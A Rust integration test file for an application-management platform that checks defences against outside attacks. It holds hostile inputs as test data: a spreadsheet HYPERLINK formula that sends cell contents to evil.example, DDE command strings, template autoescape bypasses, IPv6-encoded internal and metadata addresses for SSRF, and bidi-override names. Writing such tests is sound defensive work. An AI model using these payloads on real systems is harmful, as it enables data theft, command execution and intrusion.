//! The edges an attacker probes from outside: formulas in the staff's spreadsheets, pairing proposals as an
//! oracle and a megaphone, HTML escaping switched off by a template expression, webhook targets that
//! embed an internal address, `/metrics` grown by made-up URLs, and names that read backwards.

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::*;

/// The cells of a CSV export (its byte-order mark removed), as rows of strings.
async fn download_csv(app: &TestApp, path: &str, token: &str) -> Vec<Vec<String>> {
    let response = app
        .request(Method::GET, path, Some(token))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let bytes = response.bytes().await.unwrap();
    let body = bytes
        .strip_prefix(b"\xEF\xBB\xBF")
        .expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The cell of `column` in the row whose first cells hold `key` somewhere.
fn cell<'a>(rows: &'a [Vec<String>], row: usize, column: &str) -> &'a str {
    let index = rows[0]
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column}: {:?}", rows[0]));
    &rows[row][index]
}

#[tokio::test]
async fn an_applicant_typing_formulas_reaches_the_staff_spreadsheets_only_as_text() {
    let app = TestApp::spawn().await;
    let admin = app.admin("staff@example.org").await;
    let call = app
        .open_call(&admin, "alpes-tourisme-lab", "atl-formulas")
        .await;
    let call_id = call["id"].as_str().unwrap();
    let token = app.applicant("mallory@example.org").await;
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Voir le dossier\")";
    let org = app.organization(&token, "startup", name).await;
    let mut answers = atl_answers();
    answers["solution_name"] = json!("-2+3+cmd|' /C calc'!A0");
    answers["problem"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    answers["novelty"] = json!("=1+1");
    let (status, draft) = app
        .post(
            &format!("/api/v1/calls/{call_id}/applications"),
            Some(&token),
            json!({"organization_id": org, "answers": answers}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{draft}");
    let id = draft["id"].as_str().unwrap();
    let (status, file) = app
        .upload(&token, id, "pitch_deck", "+deck.pdf", pdf_bytes())
        .await;
    assert_eq!(status, StatusCode::CREATED, "{file}");

    let rows = download_csv(
        &app,
        &format!("/api/v1/calls/{call_id}/export/applications.csv"),
        &admin,
    )
    .await;
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(cell(&rows, 1, "organization"), format!("'{name}"));
    assert_eq!(cell(&rows, 1, "solution_name"), "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(cell(&rows, 1, "problem"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell(&rows, 1, "novelty"), "'=1+1");
    assert_eq!(cell(&rows, 1, "pitch_deck"), "'+deck.pdf");
    // Numbers stay numbers, and text that does not start like a formula is untouched.
    assert_eq!(cell(&rows, 1, "revenue_last_year"), "42000");
    assert_eq!(cell(&rows, 1, "team_fte"), "3.5");
    assert_eq!(cell(&rows, 1, "city"), "Chamonix-Mont-Blanc");

    // The other exports: nothing in them starts like a formula either.
    let ranking = download_csv(
        &app,
        &format!("/api/v1/calls/{call_id}/export/ranking.csv?stage=written"),
        &admin,
    )
    .await;
    let assignments = download_csv(&app, "/api/v1/me/assignments.csv", &admin).await;
    for row in rows.iter().chain(&ranking).chain(&assignments) {
        for value in row {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?} in {row:?}"
            );
        }
    }
    assert_eq!(ranking[0][0], "rank");
    assert_eq!(assignments[0][0], "call_id");
}

/// The title, detail and status of a problem (what tells one refusal from another).
fn problem(body: &Value) -> (Value, Value, Value, Value) {
    (
        body["type"].clone(),
        body["title"].clone(),
        body["detail"].clone(),
        body["status"].clone(),
    )
}

#[tokio::test]
async fn a_start_up_probing_application_ids_with_pairing_proposals_learns_nothing_and_cannot_speak_for_the_call_team(
) {
    let app = TestApp::spawn().await;
    let admin = app.admin("staff@example.org").await;
    let experiment = app
        .open_call(&admin, "experimentation-montagne", "exp-pairing")
        .await;
    let experiment_id = experiment["id"].as_str().unwrap();
    let lab = app
        .open_call(&admin, "alpes-tourisme-lab", "atl-pairing")
        .await;
    let lab_id = lab["id"].as_str().unwrap();

    // The targets: a territory's submitted application, another territory's draft, a start-up's
    // application to the other kind of call.
    let (_, submitted) = submitted_territory(
        &app,
        experiment_id,
        "mairie@example.org",
        "Commune de Chamonix",
    )
    .await;
    let other = app.applicant("other-mairie@example.org").await;
    let other_org = app
        .organization(&other, "territory", "Commune des Houches")
        .await;
    let (status, draft) = app
        .post(
            &format!("/api/v1/calls/{experiment_id}/applications"),
            Some(&other),
            json!({"organization_id": other_org, "answers": exp_answers()}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{draft}");
    let startup = app.applicant("founder@example.org").await;
    let startup_org = app.organization(&startup, "startup", "Navette Neige").await;
    let (status, lab_application) = app
        .post(
            &format!("/api/v1/calls/{lab_id}/applications"),
            Some(&startup),
            json!({"organization_id": startup_org, "answers": atl_answers()}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{lab_application}");

    // The attacker: a start-up member, and a member of an association.
    let attacker = app.applicant("mallory@example.org").await;
    let attacker_org = app
        .organization(&attacker, "startup", "Capteurs Alpins")
        .await;
    let association = app
        .organization(&attacker, "association", "Amis des Alpes")
        .await;
    let propose = |application: String, partner: String| {
        let app = &app;
        let attacker = attacker.clone();
        async move {
            app.post(
                &format!("/api/v1/applications/{application}/pairings"),
                Some(&attacker),
                json!({"partner_organization_id": partner}),
            )
            .await
        }
    };

    let (status, unknown) = propose(uuid::Uuid::now_v7().to_string(), attacker_org.clone()).await;
    assert_problem(status, &unknown, StatusCode::NOT_FOUND);
    for (what, application, partner) in [
        ("a draft", draft["id"].as_str().unwrap(), &attacker_org),
        (
            "an application to a start-up call",
            lab_application["id"].as_str().unwrap(),
            &attacker_org,
        ),
        (
            "a submitted application, for an association",
            &submitted,
            &association,
        ),
    ] {
        let (status, body) = propose(application.to_owned(), partner.clone()).await;
        assert_problem(status, &body, StatusCode::NOT_FOUND);
        assert_eq!(
            problem(&body),
            problem(&unknown),
            "{what}: told apart from an unknown id"
        );
    }
    assert!(
        app.mailbox
            .emails_to("mairie@example.org")
            .iter()
            .all(|e| !e.subject().contains("binôme")),
        "the territory was emailed"
    );

    // A start-up may propose itself for a submitted experiment; the territory is told who proposes.
    let (status, pairing) = propose(submitted.clone(), attacker_org.clone()).await;
    assert_eq!(status, StatusCode::CREATED, "{pairing}");
    let email = app
        .mailbox
        .wait_for_subject("mairie@example.org", "binôme")
        .await;
    let text = email.text();
    assert!(
        text.contains("C'est l'organisation « Capteurs Alpins » qui propose de former ce binôme, et non l'équipe de l'appel."),
        "{text}"
    );
    assert!(!text.contains("L'équipe de l'appel propose"), "{text}");
    assert!(email.html().contains("Capteurs Alpins"), "{}", email.html());

    // Staff proposing: the call's team speaks.
    let second = app.applicant("second@example.org").await;
    let second_org = app
        .organization(&second, "company", "Transports du Mont-Blanc")
        .await;
    let (status, body) = app
        .post(
            &format!("/api/v1/applications/{submitted}/pairings"),
            Some(&admin),
            json!({"partner_organization_id": second_org}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let email = app
        .mailbox
        .wait_for_subject("second@example.org", "binôme")
        .await;
    assert!(
        email
            .text()
            .contains("L'équipe de l'appel propose de former ce binôme."),
        "{}",
        email.text()
    );
}

#[tokio::test]
async fn staff_turning_html_escaping_off_with_an_expression_is_refused() {
    let app = TestApp::spawn().await;
    let admin = app.admin("staff@example.org").await;
    let call = app
        .open_call(&admin, "alpes-tourisme-lab", "atl-escaping")
        .await;
    let call_id = call["id"].as_str().unwrap();
    let path = format!("/api/v1/calls/{call_id}/email-templates/submission_receipt/fr");
    for switch in [
        "{% autoescape true and false %}",
        "{% autoescape \"html\"|replace(\"html\",\"none\") %}",
    ] {
        let html =
            format!("<p>Merci</p>\n{switch}<p>{{{{ display_name }}}}</p>{{% endautoescape %}}");
        let (status, body) = app
            .send(
                Method::PUT,
                &path,
                Some(&admin),
                Some(json!({"subject": "Reçu {{ reference }}", "text": "Bonjour {{ display_name }}", "html": html})),
            )
            .await;
        assert_problem(status, &body, StatusCode::UNPROCESSABLE_ENTITY);
        let errors = body["errors"].as_array().unwrap();
        assert!(
            errors
                .iter()
                .any(|e| e["field"] == "html" && e["code"] == "escaping_disabled"),
            "{switch}: {body}"
        );
        assert!(errors.iter().all(|e| e["field"] == "html"), "{body}");
    }
}

#[tokio::test]
async fn webhook_targets_hiding_an_internal_address_in_ipv6_are_refused() {
    let app = TestApp::spawn_with(Options {
        configure: Box::new(|s| s.webhooks.allow_private_targets = false),
        ..Default::default()
    })
    .await;
    let admin = app.admin("staff@example.org").await;
    for url in [
        "http://[::127.0.0.1]/hook",
        "http://[::ffff:0:7f00:1]/hook",
        "http://[64:ff9b::a9fe:a9fe]/latest/meta-data",
        "http://[64:ff9b:1::a00:1]/hook",
        "http://[2002:a9fe:a9fe::1]/hook",
        "http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/hook",
        "http://[fec0::1]/hook",
        "http://[2001:db8::1]/hook",
        "http://[100::1]/hook",
        "http://[ff02::1]/hook",
    ] {
        let (status, body) = app
            .post(
                "/api/v1/admin/webhooks",
                Some(&admin),
                json!({"url": url, "events": ["*"], "secret": "a-long-enough-signing-secret"}),
            )
            .await;
        assert_problem(status, &body, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(body["errors"][0]["field"], "url", "{url}: {body}");
        assert_eq!(
            body["errors"][0]["code"], "private_address",
            "{url}: {body}"
        );
    }
}

/// The lines of `/metrics` that count requests, read until `done` says they are all in.
async fn request_counters(
    app: &TestApp,
    token: Option<&str>,
    done: impl Fn(&[String]) -> bool,
) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let response = app
            .request(Method::GET, "/metrics", token)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let lines: Vec<String> = response
            .text()
            .await
            .unwrap()
            .lines()
            .filter(|l| l.starts_with("cordee_http_requests_total{"))
            .map(str::to_owned)
            .collect();
        if done(&lines) {
            return lines;
        }
        assert!(Instant::now() < deadline, "{lines:#?}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn two_hundred_made_up_urls_leave_one_series_in_the_metrics() {
    let app = TestApp::spawn().await;
    for i in 0..200 {
        let path = match i % 4 {
            0 => format!("/made-up-{i}"),
            1 => format!("/api/v1/made-up/{i}"),
            2 => format!("/api/v2/calls/{i}"),
            _ => format!("/wp-admin/{i}.php"),
        };
        let (status, _) = app.get(&path, None).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
    }
    let lines = request_counters(&app, None, |lines| {
        lines
            .iter()
            .any(|l| l.contains("endpoint=\"unmatched\"") && l.ends_with(" 200"))
    })
    .await;
    assert!(
        lines
            .iter()
            .all(|l| !l.contains("made-up") && !l.contains("wp-admin") && !l.contains("/api/v2")),
        "{lines:#?}"
    );
    let unmatched: Vec<&String> = lines
        .iter()
        .filter(|l| l.contains("endpoint=\"unmatched\""))
        .collect();
    assert_eq!(unmatched.len(), 1, "{unmatched:#?}");
}

#[tokio::test]
async fn metrics_behind_a_token_answer_only_those_who_carry_it() {
    let app = TestApp::spawn_with(Options {
        configure: Box::new(|s| {
            s.server.metrics_token = Some("prometheus-scrape-secret".to_owned().into())
        }),
        ..Default::default()
    })
    .await;
    let (status, body) = app.get("/metrics", None).await;
    assert_problem(status, &body, StatusCode::UNAUTHORIZED);
    let applicant = app.applicant("founder@example.org").await;
    let (status, body) = app.get("/metrics", Some(&applicant)).await;
    assert_problem(status, &body, StatusCode::UNAUTHORIZED);
    let (status, body) = app.get("/metrics", Some("prometheus-scrape-secreT")).await;
    assert_problem(status, &body, StatusCode::UNAUTHORIZED);
    request_counters(&app, Some("prometheus-scrape-secret"), |lines| {
        !lines.is_empty()
    })
    .await;
}

#[tokio::test]
async fn names_and_file_names_with_a_right_to_left_override_are_kept_as_they_read() {
    let app = TestApp::spawn().await;
    let admin = app.admin("staff@example.org").await;
    let call = app
        .open_call(&admin, "alpes-tourisme-lab", "atl-bidi")
        .await;
    let call_id = call["id"].as_str().unwrap();
    let (status, user) = app
        .post(
            "/api/v1/auth/register",
            None,
            json!({"email": "lea@example.org", "password": PASSWORD, "display_name": "\u{202E}Léa\u{200B} Martin\u{2069}"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{user}");
    assert_eq!(user["display_name"], "Léa Martin");
    app.verify_address("lea@example.org").await;
    let token = app.login("lea@example.org", PASSWORD).await;
    let (status, org) = app
        .post(
            "/api/v1/organizations",
            Some(&token),
            json!({"kind": "startup", "legal_name": "\u{FEFF}Acme\u{202E}SAS", "siret": "73282932000074", "postcode": "74400", "city": "Chamonix\u{200F}"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{org}");
    assert_eq!(org["legal_name"], "AcmeSAS");
    assert_eq!(org["city"], "Chamonix");
    let (status, draft) = app
        .post(
            &format!("/api/v1/calls/{call_id}/applications"),
            Some(&token),
            json!({"organization_id": org["id"], "answers": atl_answers()}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{draft}");
    let id = draft["id"].as_str().unwrap();
    let (status, file) = app
        .upload(
            &token,
            id,
            "pitch_deck",
            "facture\u{202E}fdp.pdf",
            pdf_bytes(),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{file}");
    assert_eq!(file["filename"], "facturefdp.pdf", "{file}");
    let response = app
        .request(
            Method::GET,
            &format!(
                "/api/v1/applications/{id}/attachments/{}",
                file["id"].as_str().unwrap()
            ),
            Some(&token),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let disposition = response.headers()["content-disposition"]
        .as_bytes()
        .to_vec();
    let disposition = String::from_utf8_lossy(&disposition);
    assert!(disposition.contains("facturefdp.pdf"), "{disposition}");
    assert!(!disposition.contains('\u{202E}'), "{disposition}");
}

#[tokio::test]
async fn a_juror_affiliation_with_a_right_to_left_override_is_kept_as_it_reads() {
    let app = TestApp::spawn().await;
    let admin = app.admin("staff@cordee.example").await;
    let call = app
        .open_call(&admin, "alpes-tourisme-lab", "atl-2026")
        .await;
    let juror = app.applicant("jure@cabinet-hugo.example").await;
    let (_, me) = app.get("/api/v1/me", Some(&juror)).await;
    let (status, seat) = app
        .post(
            &format!("/api/v1/calls/{}/jurors", call["id"].as_str().unwrap()),
            Some(&admin),
            json!({"user_id": me["id"], "affiliations": [{"name": "\u{202E}Cabinet\u{200B} Hugo\u{2069}", "siren": null}]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{seat}");
    assert_eq!(seat["affiliations"][0]["name"], "Cabinet Hugo");
}
